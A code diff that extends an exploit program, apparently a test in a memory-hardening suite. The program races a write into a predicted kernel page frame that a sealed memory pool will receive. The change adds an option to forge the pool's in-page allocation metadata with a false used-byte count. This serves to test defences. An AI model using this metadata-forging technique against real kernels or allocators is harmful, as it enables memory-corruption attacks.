@@ -1,11 +1,15 @@
 /*
  * A pool that is born sealed gives out objects that are zero: its pages were zeroed while another
- * processor could still store there.
+ * processor could still store there. It stores into the object, or, by lot, into the
+ * pool's notes on what is where, which lie in the page as well and are sealed with it.
  *
  * Pages of pools are free frames taken one by one, hidden ones first. A large pool takes all of
  * those; then each further frame is split off a block, lower half first. Where two pools got the
  * halves of a pair, and the next one the lower half of the pair behind it, the upper half is next.
  */
+#include <string.h>
+#include <x86intrin.h>
+
 #include "attack.h"
 #include "memory.h"
 
@@ -15,9 +19,18 @@ enum { STAGE_READY = 1, STAGE_PREDICTED, STAGE_OVER };
 enum { NR_MORE = 192, NR_LARGE_MAX = 2 };
 enum { DESCRIPTOR_BYTES = 64 };
 
+/* What the notes begin with: so many bytes are given out. The next object comes behind them. */
+struct notes {
+	uint32_t used_bytes, hole_bytes;
+};
+enum { USED_BYTES = 1024 };
+
 static attack_stage stage;
 static uint64_t target;
-static char bytes[BW_COPY_BYTES] = "not what the pool's owner wrote";
+static union {
+	char bytes[BW_COPY_BYTES];
+	struct notes notes;
+} forged = { "not what the pool's owner wrote" };
 
 static void pool_born(uint64_t nr_pages, struct bw_sealed_object *object)
 {
@@ -93,17 +106,30 @@ static void writer(void *unused)
 	(void)unused;
 	attack_tell(&stage, STAGE_READY);
 	attack_await(&stage, STAGE_PREDICTED, AWAIT_SPIN);
-	attack_check("vuln_copy_on", bw_vuln_copy_on(target, bytes));
+	attack_check("vuln_copy_on", bw_vuln_copy_on(target, forged.bytes));
 	attack_tell(&stage, STAGE_OVER);
+}
+
+/* Where the pool's pages stay in the direct map, notes are forged only by luck. */
+static bool aims_at_notes(void) { return __rdtsc() >> 8 & 1 && bw_option_is("pmalloc", "full"); }
+
+static void aim_at_notes(void)
+{
+	memset(&forged, 0, sizeof(forged));
+	forged.notes.used_bytes = USED_BYTES;
+	target -= target % BW_PAGE_SIZE;
+	attack_say("its notes are to say that %d bytes of it are in use", USED_BYTES);
 }
 
 int main(void)
 {
 	struct bw_sealed_object object;
 	struct bw_leak leak;
+	bool is_for_notes;
 	uint64_t pfn;
 
 	attack_begin(&leak, NR_CPUS, CPU_OF_SEALER);
+	is_for_notes = aims_at_notes();
 	attack_thread(CPU_OF_WRITER, writer, NULL);
 	/* All that comes behind the prediction once before it: a page that is touched for the first
 	 * time would be the next one. */
@@ -112,6 +138,9 @@ int main(void)
 		   memory_now().nr_free_hidden);
 	pfn = predict(&target);
 	attack_say("frame 0x%lx is the kernel's, and will be the next pool's", pfn);
+	if (is_for_notes) {
+		aim_at_notes();
+	}
 	attack_tell(&stage, STAGE_PREDICTED);
 	attack_await_parked(1);
 	attack_say("CPU %d stores there, at 0x%lx, again and again", CPU_OF_WRITER, target);
